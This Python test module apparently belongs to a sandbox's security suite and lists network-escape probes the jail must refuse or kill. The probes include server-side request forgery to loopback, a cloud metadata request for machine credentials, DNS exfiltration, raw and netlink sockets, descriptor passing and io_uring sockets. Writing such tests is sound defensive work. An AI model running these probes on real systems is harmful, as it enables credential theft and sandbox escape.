"""Ways out over a socket."""

# ruff: noqa: E501 - programs as text, about places in the jail

from attacks.attack import Attack, killed, refused

ATTACKS: tuple[Attack, ...] = (
    refused(
        "net_internet",
        "reaches a server on the internet",
        """
def attack(sample, item, ctx):
    import socket
    socket.create_connection(("1.1.1.1", 443), timeout=1)
    return True
""",
    ),
    refused(
        "net_service_loopback",
        "reaches a port of the service's own machine (server-side request forgery)",
        """
def attack(sample, item, ctx):
    import socket
    socket.create_connection(("127.0.0.1", item["port"]), timeout=1)
    return True
""",
    ),
    refused(
        "net_abstract_socket",
        "abstract Unix sockets live in the network namespace, not in the file system",
        """
def attack(sample, item, ctx):
    import socket
    socket.socket(socket.AF_UNIX).connect(chr(0) + item["abstract"])
    return True
""",
    ),
    refused(
        "net_cloud_metadata",
        "asks the cloud's metadata service for the machine's credentials",
        """
def attack(sample, item, ctx):
    import urllib.request
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1)
    return True
""",
    ),
    refused(
        "net_dns",
        "carries data out in the names it looks up",
        """
def attack(sample, item, ctx):
    import socket
    socket.getaddrinfo("answer-42.example.com", 80)
    return True
""",
    ),
    refused(
        "net_vsock",
        "AF_VSOCK is confined by no network namespace: it reaches the hypervisor",
        """
def attack(sample, item, ctx):
    import socket
    socket.socket(40, socket.SOCK_STREAM).close()
    return True
""",
    ),
    refused(
        "net_packet_capture",
        "raw and packet sockets see and forge other people's packets",
        """
def attack(sample, item, ctx):
    import socket
    made = 0
    for family, kind, protocol in ((17, 3, 0x300), (17, 2, 0x300), (2, 3, 1), (10, 3, 58)):
        try:
            socket.socket(family, kind, protocol).close()
            made += 1
        except OSError:
            pass
    return made > 0
""",
    ),
    refused(
        "net_netlink",
        "netlink configures the kernel: routes, firewalls, audit",
        """
def attack(sample, item, ctx):
    import socket
    socket.socket(16, socket.SOCK_RAW, 0).close()
    return True
""",
    ),
    refused(
        "net_odd_families",
        "rarely used families are kernel code that few have read: AF_ALG, Bluetooth, CAN, TIPC, XDP, KCM, SMC, QIPCRTR",
        """
def attack(sample, item, ctx):
    import socket
    made = []
    for family in (3, 4, 5, 9, 21, 29, 30, 31, 38, 39, 41, 42, 43, 44, 45):
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(family, kind, 0).close()
                made.append(family)
            except OSError:
                pass
    return len(made) > 0
""",
    ),
    refused(
        "net_socketpair_datagram",
        "datagram pairs can carry descriptors and be made of any local family",
        """
def attack(sample, item, ctx):
    import socket
    made = 0
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            socket.socketpair(socket.AF_UNIX, kind)
            made += 1
        except OSError:
            pass
    return made > 0
""",
    ),
    refused(
        "net_send_descriptors_to_host",
        "SCM_RIGHTS into the service fills its table of descriptors or confuses it",
        """
def attack(sample, item, ctx):
    import array, socket
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, channel_fd())
    try:
        rights = array.array("i", [0] * 100)
        host.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
    finally:
        host.detach()
    return True
""",
    ),
    refused(
        "net_receive_descriptors",
        "takes descriptors that somebody left in the channel",
        """
def attack(sample, item, ctx):
    import socket
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, channel_fd())
    try:
        host.setblocking(False)
        host.recvmsg(1, socket.CMSG_SPACE(4), socket.MSG_DONTWAIT)
    except BlockingIOError:
        return True
    finally:
        host.detach()
    return True
""",
    ),
    refused(
        "net_redirect_channel",
        "connects or names the channel's socket anew",
        """
def attack(sample, item, ctx):
    import socket
    host = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, channel_fd())
    done = 0
    for act in (
        lambda: host.connect(chr(0) + item["abstract"]),
        lambda: host.bind(chr(0) + "mine"),
        lambda: host.listen(1),
        lambda: host.sendto(b"x", chr(0) + item["abstract"]),
        lambda: host.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1),
    ):
        try:
            act()
            done += 1
        except OSError:
            pass
    host.detach()
    return done > 0
""",
    ),
    refused(
        "net_peer_credentials",
        "asks the kernel who holds the other end: process, user, groups, security label, or a pidfd of the service",
        """
def attack(sample, item, ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    learned = []
    for option in (17, 31, 59, 77):  # SO_PEERCRED, SO_PEERSEC, SO_PEERGROUPS, SO_PEERPIDFD
        value = ctypes.create_string_buffer(256)
        size = ctypes.c_uint(256)
        if libc.getsockopt(channel_fd(), 1, option, value, ctypes.byref(size)) == 0:
            learned.append(option)
    return len(learned) > 0
""",
    ),
    killed(
        "net_io_uring_socket",
        "io_uring makes sockets and connects them where no system call filter looks",
        """
def attack(sample, item, ctx):
    parameters = ctypes.create_string_buffer(120)
    syscall(425, 8, parameters)
    return True
""",
    ),
    refused(
        "net_asyncio_server",
        "serves others from inside the jail",
        """
def attack(sample, item, ctx):
    import asyncio
    async def serve():
        server = await asyncio.start_server(lambda r, w: None, "127.0.0.1", 0)
        return len(server.sockets) > 0
    return asyncio.run(serve())
""",
    ),
)
